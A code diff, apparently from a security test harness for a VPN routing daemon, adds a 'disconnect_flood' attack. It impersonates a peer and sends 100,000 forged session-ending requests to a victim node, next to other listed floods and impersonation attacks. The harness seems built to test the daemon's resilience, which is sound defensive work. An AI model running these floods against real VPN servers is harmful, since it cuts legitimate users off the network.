@@ -23,9 +23,12 @@ from cuberouted.config.keypair import generate
 from cuberouted.model import MAX_VERSION, Advertisement, Kind, Prefix
 from cuberouted.peering.messages import (
     UPDATES,
+    Direct,
+    DisconnectRequest,
     Heartbeat,
     SnapshotPart,
     Update,
+    direct_topic,
     encode,
     is_snapshot_topic,
 )
@@ -33,6 +36,7 @@ from cuberouted.peering.zmq.transport import ZmqTransport, open_transport
 
 PORT = 5657
 NODE = "vpnsrvB"
+VICTIM = "vpnsrvA"
 EPOCH = 7
 GOOD = "10.100.100.150"
 GONE = "10.100.100.151"
@@ -154,6 +158,33 @@ def million_prefixes(address: str, victim: str) -> None:
     trio.run(impersonate, address, victim, 1, million, updates)
 
 
+REQUESTS = 100_000
+
+
+async def flood_requests(address: str, victim: str) -> None:
+    """Act as the peer, and send requests to end sessions as fast as the victim receives them."""
+    async with open_transport(PORT, 3.0) as transport, trio.open_nursery() as nursery:
+        transport.allow({socket.inet_aton(victim): "victim"})
+        transport.listen([socket.inet_aton(address)])
+        peer = FakePeer(transport, 1, snapshot(1, []))
+        nursery.start_soon(peer.beat)
+        nursery.start_soon(peer.answer)
+        await peer.answered.wait()
+        for number in range(REQUESTS):
+            name = b"host1" if number % 2 else b"nobody%d" % number
+            request = DisconnectRequest(client=name, by="a flood")
+            message = Direct(node=NODE, epoch=EPOCH, seq=1, id=os.urandom(8), body=request)
+            transport.publish(direct_topic(VICTIM), encode(message))
+            if number % 50 == 0:
+                await trio.sleep(0.002)
+        print("done", flush=True)
+
+
+def disconnect_flood(address: str, victim: str) -> None:
+    """Asks to end the sessions of clients, tens of thousands of times a second."""
+    trio.run(flood_requests, address, victim)
+
+
 def _connected(address: str, victim: str, kind: int = zmq.SUB) -> zmq.Socket[bytes]:
     raw: zmq.Socket[bytes] = zmq.Context.instance().socket(kind)
     raw.setsockopt(zmq.LINGER, 0)
@@ -231,6 +262,7 @@ ATTACKS: dict[str, Callable[[str, str], None]] = {
         million_prefixes,
         subscribe_to_all,
         impersonate_publisher,
+        disconnect_flood,
         subscription_flood,
         connection_flood,
     )
